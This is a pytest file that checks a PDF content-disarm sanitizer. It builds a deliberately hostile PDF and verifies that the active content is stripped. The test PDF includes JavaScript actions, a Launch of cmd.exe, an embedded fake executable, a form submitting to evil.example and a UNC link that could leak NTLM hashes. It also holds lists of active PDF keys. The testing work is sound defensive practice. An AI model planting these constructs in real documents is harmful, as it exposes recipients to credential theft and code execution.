"""PDF disarm: the output is reopened with pikepdf and every object is searched for active content."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pikepdf
import pytest

from mamoru.sanitize.cdr import classify, disarm
from mamoru.sanitize.policy import Limits

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus" / "active_content" / "pdf"

ACTIVE_KEYS = {"/JS", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent", "/AF"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm", "/GoToR", "/GoToE",
                  "/RichMediaExecute"}
ACTIVE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}


def corpus_pdf(*parts: str) -> bytes:
    if not CORPUS.is_dir():
        pytest.skip(f"../shared not available: {CORPUS} is missing, the real-world PDF corpus cannot be read")
    return CORPUS.joinpath(*parts).read_bytes()


def active_content_left(data: bytes) -> list[str]:
    """Independent of the code under test: every dictionary of every object, direct ones included."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack: list[Any] = list(pdf.objects)
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Array):
                stack.extend(item for item in obj
                             if isinstance(item, (pikepdf.Dictionary, pikepdf.Array)) and not item.is_indirect)
                continue
            if not isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                continue
            for key in obj.keys():  # noqa: SIM118 (a Stream is not iterable)
                value = obj[key]
                if key in ACTIVE_KEYS:
                    found.append(key)
                if key == "/Names" and isinstance(value, pikepdf.Dictionary) and "/JavaScript" in value:
                    found.append("/Names/JavaScript")
                if key == "/S" and str(value) in ACTIVE_ACTIONS:
                    found.append(str(value))
                if key == "/Subtype" and str(value) in ACTIVE_ANNOTATIONS:
                    found.append(str(value))
                if key == "/Type" and str(value) == "/EmbeddedFile":
                    found.append("/EmbeddedFile")
                if isinstance(value, (pikepdf.Dictionary, pikepdf.Array)) and not value.is_indirect:
                    stack.append(value)
    return found


def js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
                                                JS=pikepdf.String(code)))


def hostile_pdf() -> bytes:
    """One page of text wrapped in every kind of active content the disarm promises to remove."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    content = b"BT /F1 12 Tf 20 100 Td (visible text) Tj ET"
    page.obj["/Contents"] = pdf.make_stream(content)
    pdf.Root.OpenAction = js(pdf, "app.alert('open')")
    embedded = pdf.make_stream(b"MZ fake exe")
    embedded["/Type"] = pikepdf.Name.EmbeddedFile
    filespec = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("setup.exe"),
                                                    EF=pikepdf.Dictionary(F=embedded)))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("doc"), js(pdf, "this.print()")])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("setup.exe"), filespec])))
    pdf.Root.AA = pikepdf.Dictionary(WC=js(pdf, "close()"))
    page.obj["/AA"] = pikepdf.Dictionary(O=js(pdf, "page open"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    goto_then_js = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([page.obj, pikepdf.Name.Fit]),
                                      Next=js(pdf, "chained"))
    widget = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T=pikepdf.String("send"),
        Rect=[10, 10, 50, 30],
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/collect")),
        AA=pikepdf.Dictionary(K=js(pdf, "keystroke"))))
    page.obj["/Annots"] = pdf.make_indirect(pikepdf.Array([
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                             Rect=[0, 0, 10, 10], A=launch)),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                             Rect=[0, 20, 10, 30], A=goto_then_js)),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 80, 9, 90],
                                             A=pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                  URI=pikepdf.String("\\\\evil\\share\\x")))),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 90, 9, 99],
                                             A=pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                  URI=pikepdf.String("https://www.city.example/")))),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                             Rect=[0, 40, 10, 50], FS=filespec)),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia,
                                             Rect=[0, 60, 10, 70],
                                             RichMediaContent=pikepdf.Dictionary())),
        widget,
    ]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]), XFA=pdf.make_stream(b"<xdp/>"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_hostile_pdf_is_disarmed_and_keeps_its_page() -> None:
    data = hostile_pdf()
    assert len(active_content_left(data)) > 10  # the checker sees what was planted
    assert classify(data, "invoice.pdf", "application/pdf") == "pdf"
    result = disarm(data, category="pdf", filename="invoice.pdf", content_type="application/pdf", limits=Limits())
    assert result.action == "disarmed"
    for finding in ("pdf:/JavaScript", "pdf:/OpenAction", "pdf:/AA", "pdf:/Launch", "pdf:/EmbeddedFiles",
                    "pdf:/FileAttachment", "pdf:/RichMedia", "pdf:/XFA", "pdf:/SubmitForm", "pdf:/URI"):
        assert finding in result.findings
    assert result.data is not None
    assert active_content_left(result.data) == []
    with pikepdf.open(io.BytesIO(result.data)) as pdf:
        assert len(pdf.pages) == 1
        assert pdf.pages[0].obj["/Contents"].read_bytes() == b"BT /F1 12 Tf 20 100 Td (visible text) Tj ET"
        assert b"MZ fake exe" not in result.data
        # Links and the form field stay; the launch link lost its action, the GoTo link only its JS continuation.
        annots = list(pdf.pages[0].obj["/Annots"])
        assert [str(annot.get("/Subtype")) for annot in annots] == ["/Link"] * 4 + ["/Widget"]
        assert "/A" not in annots[0]
        assert str(annots[1]["/A"]["/S"]) == "/GoTo" and "/Next" not in annots[1]["/A"]
        assert "/A" not in annots[2]  # the UNC link (NTLM leak) went
        assert str(annots[3]["/A"]["/URI"]) == "https://www.city.example/"  # a web link stays
    assert disarm(result.data, category="pdf", filename="x.pdf", content_type=None, limits=Limits()).action == "kept"


def test_clean_pdf_is_kept_with_its_original_bytes() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    data = out.getvalue()
    result = disarm(data, category="pdf", filename="plain.pdf", content_type=None, limits=Limits())
    assert (result.action, result.data, result.findings) == ("kept", data, ())


def test_password_protected_pdf_is_removed() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    result = disarm(out.getvalue(), category="pdf", filename="locked.pdf", content_type=None, limits=Limits())
    assert (result.action, result.reason, result.data) == ("removed", "encrypted-pdf", None)


def test_owner_password_only_pdf_is_disarmed_and_saved_without_encryption() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = js(pdf, "app.alert(1)")
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="", owner="owner"))
    result = disarm(out.getvalue(), category="pdf", filename="restricted.pdf", content_type=None, limits=Limits())
    assert result.action == "disarmed"
    assert result.data is not None
    with pikepdf.open(io.BytesIO(result.data)) as reopened:
        assert not reopened.is_encrypted
    assert active_content_left(result.data) == []


@pytest.mark.parametrize("data", [b"", b"%PDF-1.7\n", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage" * 3,
                                  b"not a pdf at all"])
def test_unreadable_pdf_is_removed(data: bytes) -> None:
    result = disarm(data, category="pdf", filename="x.pdf", content_type=None, limits=Limits())
    assert result.action == "removed"
    assert result.reason == "unreadable"


CORPUS_CASES = [
    (("py-pdf__pypdf", "resources", "issue-297.pdf"), {"pdf:/JavaScript", "pdf:/OpenAction"}),
    (("py-pdf__pypdf", "resources", "SF424_page2.pdf"), {"pdf:/JavaScript", "pdf:/AA", "pdf:/Launch",
                                                          "pdf:/ResetForm"}),
    (("py-pdf__pypdf", "resources", "attachment.pdf"), {"pdf:/EmbeddedFiles", "pdf:/FileAttachment"}),
    (("pikepdf__pikepdf", "resources", "form_dd0293.pdf"), {"pdf:/JavaScript", "pdf:/XFA", "pdf:/EmbeddedFiles"}),
    (("py-pdf__pypdf", "resources", "encrypted_doc_no_id.pdf"), {"pdf:/OpenAction", "pdf:/AA"}),
    (("pikepdf__pikepdf", "resources", "outlines.pdf"), {"pdf:/OpenAction"}),
    (("py-pdf__pypdf", "resources", "hello-world.pdf"), {"pdf:/OpenAction"}),
    (("py-pdf__pypdf", "resources", "FormTestFromOo.pdf"), {"pdf:/OpenAction"}),
]


@pytest.mark.parametrize(("parts", "expected"), CORPUS_CASES)
def test_real_pdfs_are_disarmed_and_keep_their_pages(parts: tuple[str, ...], expected: set[str]) -> None:
    data = corpus_pdf(*parts)
    assert active_content_left(data)
    result = disarm(data, category="pdf", filename=parts[-1], content_type=None, limits=Limits())
    assert result.action == "disarmed"
    assert expected <= set(result.findings)
    assert result.data is not None
    assert active_content_left(result.data) == []
    with pikepdf.open(io.BytesIO(data)) as before, pikepdf.open(io.BytesIO(result.data)) as after:
        assert len(after.pages) == len(before.pages)


def test_real_encrypted_pdf_without_password_is_removed() -> None:
    data = corpus_pdf("py-pdf__pypdf", "resources", "encrypted-file.pdf")
    result = disarm(data, category="pdf", filename="encrypted-file.pdf", content_type=None, limits=Limits())
    assert (result.action, result.reason) == ("removed", "encrypted-pdf")
